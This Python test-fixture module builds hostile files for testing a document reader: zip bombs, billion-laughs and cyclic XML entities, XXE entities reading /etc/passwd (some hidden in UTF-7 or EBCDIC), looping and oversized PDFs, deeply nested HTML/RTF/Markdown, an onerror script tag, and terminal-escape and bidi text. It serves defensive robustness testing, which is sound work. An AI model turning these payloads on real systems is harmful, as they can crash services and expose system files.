"""Files made to hang, kill, fill or fool a reader; built when asked for, never kept in the repository.

`DOCUMENTS` and `LISTS` are file names and what builds the files. `WE` is the one honest sentence in those
that can be read.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from .files import WORD, bare_docx, column, odt, pdf, raw_pdf, word_paragraph, zipped

WE = "At least nine of the twelve directors must be disabled people."
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ZEROS = b"0" * 60_000_000


def entities(root: str) -> str:
    """Billion laughs: each entity is ten of the one before."""
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{levels}]>{root}'


def quadratic(root: str) -> str:
    """One long entity, many times."""
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "{"x" * 50_000}">]>' + root.replace(
        "&e9;", "&e;" * 20_000
    )


def cyclic(root: str) -> str:
    """Entities that hold one another."""
    return '<!DOCTYPE x [<!ENTITY e9 "&b;"><!ENTITY b "&e9;">]>' + root


def external(root: str) -> str:
    """An entity that is a file of the machine."""
    return '<!DOCTYPE x [<!ENTITY e9 SYSTEM "file:///etc/passwd">]>' + root


def in_utf_7(xml: str) -> bytes:
    """The same XML with every angle bracket written in another way."""
    head, rest = xml.split("?>", 1)
    return (head + ' encoding="UTF-7"?>').encode() + rest.replace("&", "+ACY-").replace("<", "+ADw-").encode()


def in_ebcdic(xml: str) -> bytes:
    """The same XML in the code of mainframes, where no byte is what it seems."""
    return xml.replace("?>", ' encoding="cp037"?>', 1).encode("cp037")


_DOCX_ROOT = (
    f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&e9;</w:t></w:r></w:p></w:body></w:document>'
)
_ODF_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
)
_ODT_ROOT = (
    f"<office:document-content {_ODF_NAMES}><office:body><office:text><text:p>&e9;</text:p></office:text>"
    "</office:body></office:document-content>"
)


def docx_of(document: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": document})


def odt_of(content: str | bytes, kind: str = "text") -> bytes:
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": content})


def zip_of_lies(name: str, data: bytes, told: int) -> bytes:
    """An archive whose directory tells a smaller size than a member has."""
    whole = bytearray(zipped({"[Content_Types].xml": "<Types/>", name: data}))
    at = whole.rfind(b"PK\x01\x02")
    struct.pack_into("<I", whole, at + 24, told)
    local = whole.rfind(b"PK\x03\x04", 0, at)
    struct.pack_into("<I", whole, local + 22, told)
    return bytes(whole)


def overlapping_zip(count: int = 3000) -> bytes:
    """Many names in the directory that are all the same bytes (the bomb without layers)."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * 5_000_000)
        info = archive.infolist()[0]
        for number in range(count):
            twin = zipfile.ZipInfo(f"word/media/{number}.xml")
            for field in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(twin, field, getattr(info, field))
            archive.filelist.append(twin)
    return data.getvalue()


def zip_in_zip(depth: int = 12) -> bytes:
    data = bare_docx(word_paragraph(WE))
    for _ in range(depth):
        data = zipped({"inner.docx": data})
    return data


def bad_references() -> bytes:
    """A PDF whose table of places points nowhere."""
    data = pdf([column([WE])])
    at = data.rfind(b"startxref")
    return data[:at] + b"startxref\n99999999\n%%EOF"


def page_loop() -> bytes:
    """A PDF whose tree of pages is its own child."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2000000000>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )


def many_pages(count: int = 200_000) -> bytes:
    """A PDF of pages without end, each the same small object."""
    kids = b"3 0 R " * count
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids["
        + kids
        + b"]/Count %d>>endobj\n" % count
        + b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R/Size 4>>\n%%EOF"
    )


def huge_image() -> bytes:
    """A PDF with a picture of 60,000 by 60,000 dots in a few bytes."""
    dots = zlib.compress(bytes(10_000_000), 9)
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 600]/Resources<</XObject<</I 4 0 R>>>>/Contents 5 0 R>>"
    )
    picture = (
        b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
        + b"/Filter/FlateDecode/Length %d>>" % len(dots)
    )
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        + b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj"
        + page
        + b"endobj\n4 0 obj"
        + picture
        + b"stream\n"
        + dots
        + b"\nendstream endobj\n5 0 obj<</Length 30>>stream\n"
        + b"q 600 0 0 600 0 0 cm /I Do Q  \nendstream endobj\n"
        + b"trailer<</Root 1 0 R/Size 6>>\n%%EOF"
    )


def nested_arrays(depth: int = 200_000) -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/X "
        + b"[" * depth
        + b"]" * depth
        + b">>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R/Size 3>>\n%%EOF"
    )


def xlsx_of(sheet: str | bytes, **members: str | bytes) -> bytes:
    """A workbook with one sheet, given in its own XML."""
    return zipped(
        {
            "[Content_Types].xml": (
                f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
                'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                '<Override PartName="/xl/workbook.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                '<Override PartName="/xl/worksheets/sheet1.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
            ),
            "_rels/.rels": (
                f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
                f'Type="{_OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ),
            "xl/workbook.xml": (
                f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets>'
                '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
                f'Type="{_OFFICE}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
            ),
            "xl/worksheets/sheet1.xml": sheet,
            **members,
        }
    )


def cells(*rows: str, wrap: Callable[[str], str] = str) -> str:
    return wrap(f'<worksheet xmlns="{_SHEET}"><sheetData>{"".join(rows)}</sheetData></worksheet>')


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def ods_of(rows: str, wrap: Callable[[str], str] = str) -> bytes:
    return odt_of(
        wrap(
            f"<office:document-content {_ODF_NAMES}><office:body><office:spreadsheet>"
            f'<table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body>'
            "</office:document-content>"
        ),
        "spreadsheet",
    )


def _html(body: bytes) -> bytes:
    return b"<html><body><p>" + WE.encode() + b"</p>" + body


Files = dict[str, Callable[[], bytes]]

DOCUMENTS: Files = {
    "zip bomb.docx": lambda: docx_of(_ZEROS),
    "zip bomb.odt": lambda: odt_of(_ZEROS),
    "lying size.docx": lambda: zip_of_lies("word/document.xml", b" " * 30_000_000, 1000),
    "overlapping.docx": overlapping_zip,
    "zip in zip.docx": zip_in_zip,
    "many members.odt": lambda: zipped({f"{n}.xml": "" for n in range(20_000)}),
    "laughs.docx": lambda: docx_of(entities(_DOCX_ROOT)),
    "laughs.odt": lambda: odt_of(entities(_ODT_ROOT)),
    "laughs utf-16.docx": lambda: docx_of(entities(_DOCX_ROOT).encode("utf-16")),
    "laughs utf-7.docx": lambda: docx_of(in_utf_7(entities(_DOCX_ROOT))),
    "laughs utf-7.odt": lambda: odt_of(in_utf_7(entities(_ODT_ROOT))),
    "laughs ebcdic.docx": lambda: docx_of(in_ebcdic(entities(_DOCX_ROOT))),
    "laughs ebcdic.odt": lambda: odt_of(in_ebcdic(entities(_ODT_ROOT))),
    "external ebcdic.odt": lambda: odt_of(in_ebcdic('<?xml version="1.0"?>' + external(_ODT_ROOT))),
    "quadratic.docx": lambda: docx_of(quadratic(_DOCX_ROOT)),
    "quadratic.odt": lambda: odt_of(quadratic(_ODT_ROOT)),
    "cyclic.docx": lambda: docx_of(cyclic(_DOCX_ROOT)),
    "cyclic.odt": lambda: odt_of(cyclic(_ODT_ROOT)),
    "external.docx": lambda: docx_of(external(_DOCX_ROOT)),
    "external.odt": lambda: odt_of(external(_ODT_ROOT)),
    "deep.docx": lambda: bare_docx("<w:sdt><w:sdtContent>" * 30_000 + "</w:sdtContent></w:sdt>" * 30_000),
    "deep.odt": lambda: odt("<text:section>" * 30_000 + "</text:section>" * 30_000),
    "wide row.odt": lambda: odt(
        '<table:table><table:table-row table:number-rows-repeated="2000000000"><table:table-cell '
        f'table:number-columns-repeated="2000000000"><text:p>{WE}</text:p></table:table-cell></table:table-row>'
        "</table:table>"
    ),
    "bad references.pdf": bad_references,
    "page loop.pdf": page_loop,
    "many pages.pdf": many_pages,
    "huge image.pdf": huge_image,
    "nested arrays.pdf": nested_arrays,
    "stream bomb.pdf": lambda: raw_pdf(
        zlib.compress(zlib.compress(b"BT /F 12 Tf 10 10 Td (aaaaaaaaaaaa) Tj ET\n" * 2_000_000, 9), 9),
        filters=b"/Filter[/FlateDecode/FlateDecode]",
    ),
    "only a head.pdf": lambda: b"%PDF-1.7\n",
    "one tag.html": lambda: b"<html><body><p class='" + b"a" * 100_000_000 + b"'>x</p>",
    "one tag in the limit.html": lambda: b"<html><body><p class='" + b"a " * 900_000 + b"'>" + WE.encode(),
    "attributes.html": lambda: b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(100_000)) + b">x",
    "deep.html": lambda: _html(b"<div>" * 300_000),
    "deep inline.html": lambda: _html(b"<b><i>" * 100_000),
    "deep tables.html": lambda: _html(b"<table><tr><td>" * 60_000),
    "deep lists.html": lambda: _html(b"<ul><li>" * 100_000),
    "many comments.html": lambda: _html(b"<!--" * 400_000),
    "many entities.html": lambda: _html(b"&amp;&#0;&#x110000;&nope;" * 70_000),
    "script.html": lambda: _html(
        b"<script>while(1);</script><img src=http://198.51.100.1/x onerror=alert(1)>"
    ),
    "html named.docx": lambda: _html(b""),
    "html named.pdf": lambda: _html(b""),
    "nul.txt": lambda: b"\x00".join(bytes([c]) for c in WE.encode()),
    "only nul.txt": lambda: b"\x00" * 5_000_000,
    "half nul.html": lambda: _html(b"\x00" * 1_000_000),
    "utf-16.txt": lambda: WE.encode("utf-16"),
    "utf-16 odd.txt": lambda: WE.encode("utf-16") + b"\x00",
    "utf-32.txt": lambda: WE.encode("utf-32"),
    "lone surrogates.txt": lambda: (WE + " \ud800\udfff\udc00 end").encode("utf-16-le", "surrogatepass"),
    "surrogates in utf-8.txt": lambda: WE.encode() + b" \xed\xa0\x80\xed\xb0\x80 end",
    "surrogate entity.html": lambda: _html(b"<p>We &#xD800; meet &#56320; here.</p>"),
    "told wrongly.html": lambda: b"<html><head><meta charset=utf-16></head><body><p>" + WE.encode(),
    "unknown charset.html": lambda: b"<html><head><meta charset=x-klingon></head><body><p>" + WE.encode(),
    "utf-7.html": lambda: b"<meta charset=utf-7><html><body><p>+ADw-script+AD4-alert(1) " + WE.encode(),
    "latin bytes.txt": lambda: WE.encode() + b" \xe9\x80\x93\x9d\x81",
    "noise.txt": lambda: bytes((n * 7919 + (n >> 3)) % 256 for n in range(300_000)),
    "mixed scripts.txt": lambda: (
        "Аt lеast ninе оf thе twеlvе dirеctors must bе disablеd pеоplе. ".encode() * 50
    ),
    "zero width.txt": lambda: "\u200b".join(WE).encode(),
    "soft hyphens.txt": lambda: "\u00ad".join(WE).encode(),
    "combining.txt": (WE + " a" + "\u0301" * 500_000).encode,
    "bidi.txt": ("\u202e" + WE + "\u202c\u2066" * 10_000).encode,
    "control.txt": lambda: WE.encode() + b"\x1b[2J\x1b]0;owned\x07 \x1b[31m red" + b"\r" * 1000,
    "tags block.txt": ("".join(chr(0xE0000 + ord(c)) for c in "hidden") + WE).encode,
    "one line.txt": lambda: (WE + " ").encode() * 70_000,
    "one word.txt": lambda: b"a" * 4_900_000,
    "many lines.txt": lambda: b"\n" * 4_000_000 + WE.encode(),
    "brackets.txt": lambda: b"(" * 1_000_000 + WE.encode(),
    "numbers.txt": lambda: b"1.1." * 500_000 + WE.encode(),
    "clauses.txt": lambda: b"".join(b"%d. The board may not.\n" % n for n in range(100_000)),
    "digits.txt": lambda: b"9" * 3_000_000 + b" of the " + b"9" * 3_000 + b" trustees are disabled people.",
    "capitals.txt": lambda: b"Aa Bb " * 500_000,
    "at signs.txt": lambda: b"a@" * 1_500_000,
    "negations.txt": lambda: b"not never no " * 250_000,
    "deep.rtf": lambda: b"{\\rtf1 " + b"{\\b " * 1_000_000,
    "closed.rtf": lambda: b"{\\rtf1 " + b"}" * 1_000_000 + WE.encode(),
    "bin.rtf": lambda: b"{\\rtf1 \\bin999999999999 " + WE.encode() + b"}",
    "unicode.rtf": lambda: b"{\\rtf1 " + b"\\u-99999999999?\\u55296?\\u8? " * 20_000 + WE.encode() + b"}",
    "object.rtf": lambda: b"{\\rtf1{\\object\\objdata " + b"41" * 2_000_000 + b"}" + WE.encode() + b"}",
    "codepage.rtf": lambda: b"{\\rtf1\\ansi\\ansicpg99999 " + WE.encode() + b"\\'ff\\'zz}",
    "deep.md": lambda: b"> " * 100_000 + WE.encode(),
    "deep list.md": lambda: b"".join(b" " * (2 * n) + b"- x\n" for n in range(1200)) + WE.encode(),
    "links.md": lambda: b"[a](" * 200_000 + WE.encode(),
    "stars.md": lambda: b"*a_ " * 300_000 + WE.encode(),
    "table.md": lambda: b"|a" * 20_000 + b"\n" + b"|-" * 20_000 + b"\n" + b"|x\n" * 20_000,
    "front matter.md": lambda: b"---\n" + b"a: &a [*a]\n" * 100_000 + b"---\n" + WE.encode(),
    "empty.docx": lambda: b"",
    "blank.pdf": lambda: b" \n",
}

LISTS: Files = {
    "zip bomb.xlsx": lambda: xlsx_of(_ZEROS),
    "zip bomb.ods": lambda: odt_of(_ZEROS, "spreadsheet"),
    "lying size.xlsx": lambda: zip_of_lies("xl/worksheets/sheet1.xml", b" " * 30_000_000, 1000),
    "laughs.xlsx": lambda: xlsx_of(cells(cell("A1", "&e9;"), wrap=entities)),
    "laughs.ods": lambda: ods_of("<table:table-row/>&e9;", wrap=entities),
    "cyclic.xlsx": lambda: xlsx_of(cells(cell("A1", "&e9;"), wrap=cyclic)),
    "external.xlsx": lambda: xlsx_of(cells(cell("A1", "&e9;"), wrap=external)),
    "last cell.xlsx": lambda: xlsx_of(cells(cell("A1", "Name"), cell("XFD1048576", "Alder Forum"))),
    "beyond.xlsx": lambda: xlsx_of(cells(cell("ZZZZZZZ99999999999999", "Alder Forum"))),
    "repeated.ods": lambda: ods_of(
        '<table:table-row table:number-rows-repeated="2000000000"><table:table-cell '
        'table:number-columns-repeated="2000000000"><text:p>Alder Forum</text:p></table:table-cell>'
        "</table:table-row>"
    ),
    "deep.xlsx": lambda: xlsx_of(cells("<x>" * 100_000 + "</x>" * 100_000)),
    "many rows.xlsx": lambda: xlsx_of(cells("<row/>" * 3_000_000)),
    "strings.xlsx": lambda: xlsx_of(
        cells('<c r="A1" t="s"><v>99999999999</v></c><c r="B1" t="s"><v>-1</v></c>'),
    ),
    "cut.xlsx": lambda: xlsx_of(cells(cell("A1", "Alder Forum")))[:-200],
    "html.xlsx": lambda: b"<html><body><table><tr><td>Alder Forum",
    "noise.ods": lambda: bytes(n * 31 % 256 for n in range(50_000)),
    "quotes.csv": lambda: b'Name\n"' + b"a" * 5_000_000,
    "columns.csv": lambda: b"," * 5_000_000 + b"\nAlder Forum",
    "nul.csv": lambda: b"Name\nAlder\x00 Forum\n",
    "lines.txt": lambda: b"\n" * 5_000_000,
    "one line.txt": lambda: b"Alder Forum, " * 300_000,
    "bullets.txt": lambda: b"- " * 1_000_000,
    "brackets.txt": lambda: b"(" * 200_000 + b"Alder Forum" + b")" * 200_000,
    "attributes.html": lambda: b"<html><body><p " + b" ".join(b"a%d=1" % n for n in range(100_000)) + b">x",
    "deep.html": lambda: b"<html><body>" + b"<table><tr><td>" * 60_000 + b"Alder Forum",
    "page loop.pdf": page_loop,
    "laughs.docx": lambda: docx_of(entities(_DOCX_ROOT)),
    "deep.rtf": lambda: b"{\\rtf1 " + b"{\\b " * 1_000_000,
}
